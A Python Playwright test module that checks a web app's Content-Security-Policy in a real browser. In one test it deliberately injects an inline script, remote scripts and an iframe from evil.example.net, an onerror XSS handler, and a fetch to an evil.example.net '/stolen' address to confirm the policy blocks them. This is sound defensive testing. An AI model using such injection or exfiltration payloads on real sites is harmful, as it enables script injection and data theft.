"""The Content-Security-Policy in a real browser: nothing of the app needs more, and what it forbids does not happen."""

from __future__ import annotations

import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from annotate.auth.page_access import PAGES
from collection import Campaign, Judgement
from collection.core.records import Document, Topic
from tests.browser.reach import settled
from tests.browser.serving import Serving, choose_page, sign_in
from tests.helpers import put

pytestmark = [pytest.mark.browser, pytest.mark.long]

PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>'


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path]:
    """A campaign with something on every page: two runs, two annotators, and pictures of an allowed host."""
    directory = tmp_path_factory.mktemp("policy") / "campaign"
    with Campaign.create(directory, title="Wings") as campaign:
        campaign.settings.set_judging_page(image_hosts=("images.example.org",))
        topics = [Topic(str(topic), f"wing flow {topic}") for topic in range(1, 4)]
        picture = {"images": [{"link": "http://images.example.org/a.svg", "alt": "A wing"}]}
        documents = [Document(f"d{n}", f"Wing {n}", f"Flow past wing {n}.", picture) for n in range(6)]
        ids = [document.doc_id for document in documents]
        orders = {"up": ids, "down": ids[::-1]}
        put(campaign, topics, documents, {run: {t.query_id: order for t in topics} for run, order in orders.items()})
        campaign.people.pools.add("depth", depth=6)
        said = [
            Judgement(f"{who}-{t}-{n}", who, str(t), f"d{n}", "graded", (n + t + shift) % 4)
            for shift, who in enumerate(("eve", "bob"))
            for t in range(1, 4)
            for n in range(4)
        ]
        assert not campaign.judging.judge_many(said).refused
    return (directory,)


@pytest.fixture
def page(serving: Serving, make_window: Callable[..., BrowserContext]) -> Page:
    return sign_in(make_window(bypass_csp=False), serving)


@contextmanager
def violations(page: Page) -> Iterator[list[str]]:
    """Violations of the policy that the browser reports in the meantime."""
    said: list[str] = []

    def note(message: object) -> None:
        text = message.text  # type: ignore[attr-defined]
        if "Content Security Policy" in text or "Content-Security-Policy" in text:
            said.append(text)

    page.on("console", note)
    yield said
    page.remove_listener("console", note)


def test_no_page_chart_download_or_card_needs_more(serving: Serving, page: Page) -> None:
    fetched: list[str] = []

    def send(route: Route) -> None:
        fetched.append(route.request.url)
        route.fulfill(body=PICTURE, content_type="image/svg+xml")

    page.route("http://images.example.org/**", send)
    with violations(page) as said:
        page.goto(serving.url)
        for entry in (each for each in PAGES if each.is_listed(is_review=False)):
            choose_page(page, entry.title)
            settled(page)
            if entry.url_path == "judge":
                expect(page.locator("[data-part=document]:not([hidden]) [data-part=doc-id]")).not_to_be_empty()
                expect(page.locator("[data-part=pictures] img")).to_be_visible()
            if entry.url_path == "compare":
                for kind in ("PNG", "SVG"):  # drawn from a blob: image, saved from a blob: address
                    with page.expect_download():
                        page.get_by_role("button", name=f"Save as {kind}").first.click()
            if entry.url_path == "export":
                with page.expect_download() as download:
                    page.get_by_test_id("stDownloadButton").get_by_role("button").first.click()
                assert Path(download.value.path()).stat().st_size > 0
        assert said == []
    assert fetched  # the card shows pictures of the host that the manager allowed


def test_what_the_policy_forbids_does_not_happen(serving: Serving, page: Page) -> None:
    page.goto(serving.url)
    settled(page)
    asked: list[str] = []
    page.route("**/*.example.net/**", lambda route: (asked.append(route.request.url), route.abort()))
    with violations(page) as said:
        page.evaluate(
            """() => {
              const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
              add("script", { textContent: "window.ran = 'inline'" });
              add("script", { src: "https://evil.example.net/a.js" });
              add("img", { src: "https://evil.example.net/a.png" });
              add("iframe", { src: "https://evil.example.net/" });
              add("div", { innerHTML: "<img src=x onerror=\\"window.ran = 'handler'\\">" });
              fetch("https://evil.example.net/stolen").catch(() => {});
              new Image().src = "http://images.example.com/beside-the-allowed-host.png";
              // Later: what Playwright itself evaluates may use eval.
              setTimeout(() => { try { window.ran = eval("'eval'"); } catch { window.refused = true; } });
            }"""
        )
        choose_page(page, "Account")  # a round trip, by which all of that has been tried
        settled(page)
        assert page.evaluate("window.refused") is True
        assert page.evaluate("window.ran") is None
        for kind in ("script-src", "img-src", "connect-src", "frame-src"):
            assert any(kind in text for text in said), (kind, said)
    assert asked == []


def test_the_script_that_leads_to_the_sign_in_page_may_run(serving: Serving, page: Page) -> None:
    page.goto(serving.url)
    settled(page)
    with Campaign(serving.directory) as campaign:
        campaign.people.accounts.end_sessions("ann")
    with violations(page) as said:
        page.get_by_test_id("stSidebarNav").get_by_role("link", name="Account", exact=True).click()
        expect(page).to_have_url(f"{serving.url}/signin")
        assert said == []


def test_a_page_that_fails_shows_an_id_and_the_log_its_traceback(serving: Serving, page: Page) -> None:
    page.goto(serving.url)
    settled(page)
    with closing(sqlite3.connect(serving.directory / "campaign.db", isolation_level=None)) as database:
        database.execute("ALTER TABLE memberships RENAME TO hidden")
        choose_page(page, "People")
        alert = page.get_by_test_id("stAlert").get_by_text("An unexpected error occurred.")
        expect(alert).to_be_visible()
        database.execute("ALTER TABLE hidden RENAME TO memberships")
    text = page.locator("body").inner_text()
    assert "memberships" not in text
    assert "Traceback" not in text
    error_id = alert.inner_text().partition("Its id is ")[2][:8]
    for line in serving.output:
        if f"unexpected error {error_id}" in line:
            break
    assert any("no such table: memberships" in line for line in iter(serving.output.readline, ""))
    page.goto(f"{serving.url}/people")
    expect(page.get_by_role("heading", name="People")).to_be_visible()
